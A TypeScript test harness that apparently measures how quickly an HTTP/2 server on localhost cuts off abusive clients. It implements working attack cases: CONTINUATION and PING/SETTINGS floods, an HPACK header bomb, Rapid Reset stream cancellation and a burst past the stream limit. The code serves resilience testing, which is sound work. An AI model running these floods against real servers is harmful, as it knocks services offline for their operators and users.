// Attack cases: each opens its attacker, reports time-to-cut (ms) or null if never cut within the bound.
import net from 'node:net'
import {
  frame,
  literal,
  onFrames,
  PREFACE,
  pingFrame,
  requestBlock,
  rstFrame,
  settingsFrame,
  T,
} from './h2-frames.ts'

export const BOUND_MS = 10_000
export interface CaseResult {
  cutMs: number | null
  note?: string
}
type Raw = (s: net.Socket, stop: () => boolean) => void

/** Raw h2 attacker: measures until GOAWAY or socket close. `read` false pauses the socket. */
function raw(port: number, read: boolean, attack: Raw): Promise<CaseResult> {
  return new Promise((done) => {
    const t0 = Date.now()
    let over = false
    const s = net.connect(port, '127.0.0.1')
    const buf = { b: Buffer.alloc(0) }
    const finish = (r: CaseResult): void => {
      if (over) return
      over = true
      s.destroy()
      done(r)
    }
    // Cut means the socket is gone: a GOAWAY alone leaves the session (and its memory) alive.
    let goaway = ''
    const at = (): string => (goaway ? `GOAWAY ${goaway}; ` : '')
    s.on('error', (e) =>
      finish({
        cutMs: Date.now() - t0,
        note: `${at()}${(e as NodeJS.ErrnoException).code ?? e.message}`,
      }),
    )
    s.on('close', () => finish({ cutMs: Date.now() - t0, note: `${at()}closed` }))
    s.on('data', (c) =>
      onFrames(buf, c, (type, flags, payload) => {
        if (type === T.GOAWAY && !goaway)
          goaway = `code ${payload.readUInt32BE(4)} at ${Date.now() - t0} ms`
        else if (type === T.SETTINGS && !(flags & 1)) s.write(settingsFrame(true))
      }),
    )
    setTimeout(() => finish({ cutMs: null, note: `${at()}socket open at bound` }), BOUND_MS)
    s.on('connect', () => {
      s.write(Buffer.concat([PREFACE, settingsFrame()]))
      if (!read) s.pause()
      attack(s, () => over)
    })
  })
}

/** Writes `make()` in batches until the socket is cut, honouring backpressure. */
function pump(
  s: net.Socket,
  stop: () => boolean,
  make: (i: number) => Buffer,
  max = Number.POSITIVE_INFINITY,
): void {
  let i = 0
  const go = (): void => {
    while (!stop() && i < max) {
      const batch: Buffer[] = []
      for (let k = 0; k < 200 && i < max; k++) batch.push(make(i++))
      if (!s.write(Buffer.concat(batch))) return void s.once('drain', go)
    }
  }
  go()
}

export const h2Cases: Record<string, (port: number) => Promise<CaseResult>> = {
  continuationFlood: (port) =>
    raw(port, true, (s, stop) => {
      s.write(frame(T.HEADERS, 0, 1, requestBlock()))
      pump(s, stop, () => frame(T.CONT, 0, 1, literal('x-a', 'b'.repeat(64))))
    }),
  settingsFloodUnread: (port) =>
    raw(port, false, (s, stop) => pump(s, stop, () => settingsFrame())),
  pingFloodUnread: (port) => raw(port, false, (s, stop) => pump(s, stop, () => pingFrame())),
  hpackBomb: (port) =>
    raw(port, true, (s, stop) => {
      // one 16 KB-ish header value repeated: ~38 MB header list per stream in CONTINUATIONs
      const h = literal('x-bomb', 'v'.repeat(16_000))
      let id = 1
      pump(
        s,
        stop,
        (i) => {
          const perStream = 2400
          const k = i % perStream
          if (k === 0) return frame(T.HEADERS, 0, id, Buffer.concat([requestBlock(), h]))
          if (k === perStream - 1) return frame(T.CONT, 4, (id += 2) - 2, h)
          return frame(T.CONT, 0, id, h)
        },
        2400 * 4,
      )
    }),
  concurrent1000: (port) =>
    raw(port, true, (s, stop) =>
      pump(s, stop, (i) => frame(T.HEADERS, 5, 2 * i + 1, requestBlock()), 1000),
    ),
  rapidReset: (port) =>
    raw(port, true, (s, stop) =>
      pump(
        s,
        stop,
        (i) => Buffer.concat([frame(T.HEADERS, 5, 2 * i + 1, requestBlock()), rstFrame(2 * i + 1)]),
        500_000,
      ),
    ),
  pingFloodRead: (port) =>
    raw(port, true, (s, stop) => {
      const t = setInterval(() => {
        if (stop()) return clearInterval(t)
        const b: Buffer[] = []
        for (let i = 0; i < 100; i++) b.push(pingFrame())
        s.write(Buffer.concat(b)) // 100 per 10 ms = 10,000/s
      }, 10)
      setTimeout(() => clearInterval(t), 4000)
    }),
  // 300 requests at once past the server's advertised limit of 100.
  pastStreamLimit: (port) =>
    new Promise((done) => {
      const t0 = Date.now()
      const s = net.connect(port, '127.0.0.1')
      const buf = { b: Buffer.alloc(0) }
      let answered = 0
      let refused = 0
      let goaway = ''
      let over = false
      const finish = (cut: number | null): void => {
        if (over) return
        over = true
        s.destroy()
        done({ cutMs: cut, note: `${answered}/300 answered, ${refused} RST; ${goaway}` })
      }
      s.on('error', () => finish(Date.now() - t0))
      s.on('close', () => finish(Date.now() - t0))
      s.on('data', (c) =>
        onFrames(buf, c, (type, flags, payload) => {
          if (type === T.HEADERS) answered++
          else if (type === T.RST) refused++
          else if (type === T.GOAWAY) goaway = `GOAWAY code ${payload.readUInt32BE(4)}`
          else if (type === T.SETTINGS && !(flags & 1)) {
            // nghttp2 enforces its limit once the client has acknowledged it; then burst past it.
            const f = [settingsFrame(true)]
            for (let i = 0; i < 300; i++) f.push(frame(T.HEADERS, 5, 2 * i + 1, requestBlock()))
            s.write(Buffer.concat(f))
          }
          if (answered + refused >= 300) setTimeout(() => finish(null), 500)
        }),
      )
      s.on('connect', () => {
        s.write(Buffer.concat([PREFACE, settingsFrame()]))
      })
      setTimeout(() => finish(null), BOUND_MS)
    }),
}
